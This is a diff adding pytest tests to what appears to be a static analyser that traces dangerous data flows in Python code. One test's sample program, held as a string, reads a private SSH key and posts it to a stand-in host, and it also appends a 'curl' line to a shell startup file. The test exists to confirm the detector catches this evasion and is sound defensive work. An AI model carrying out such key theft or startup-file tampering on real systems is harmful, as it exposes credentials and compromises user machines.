@@ -78,3 +78,20 @@ def test_a_function_of_the_system_by_a_name_that_nobody_can_work_out() -> None:
     )
     told = [one for one in unreadable.run(program(text)) if isinstance(one, Hit)]
     assert [one.severity for one in told] == [Severity.HIGH]
+
+
+def test_an_object_that_is_a_path_is_opened_as_one() -> None:
+    """What the method gives is what `open` opens: the act is still that of `open`."""
+    kind = "class P:\n    def __fspath__(self):\n        return {!r}\n"
+    send = "import urllib.request\nurllib.request.urlopen('http://a.example.invalid', data=open(P()).read())"
+    sent = program(kind.format("/home/a/.ssh/id_rsa") + send).flows
+    assert any(one.act is Act.SEND and one.has(Taint.SECRET) for one in sent)
+    written = program(kind.format("/home/a/.bashrc") + "open(P(), 'a').write('curl x')").flows
+    assert any(one.act is Act.WRITE and ".bashrc" in one.target for one in written)
+
+
+def test_nothing_is_kept_between_two_objects_that_a_library_makes() -> None:
+    text = "class C:\n    def __getitem__(self, part):\n        return part\n"
+    program(text + "type(C()[1:2]).start = 'kept'\n")
+    plain = program(text + "exec(C()[1:2].step or 'pass')\n")
+    assert not any("kept" in one.text for one in plain.flows)
